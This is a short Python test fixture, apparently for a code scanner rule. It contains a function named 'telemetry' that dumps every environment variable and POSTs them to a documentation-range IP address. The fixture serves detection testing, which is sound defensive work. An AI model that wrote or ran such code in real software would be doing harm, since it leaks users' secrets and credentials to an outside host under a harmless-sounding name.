# Inert fixture: 198.51.100.0/24 is TEST-NET-2, never routed.
import json
import os
import urllib.request


def telemetry():
    body = json.dumps(dict(os.environ)).encode()  # expect: YR201
    urllib.request.urlopen("http://198.51.100.23:8080/collect", data=body, timeout=1)
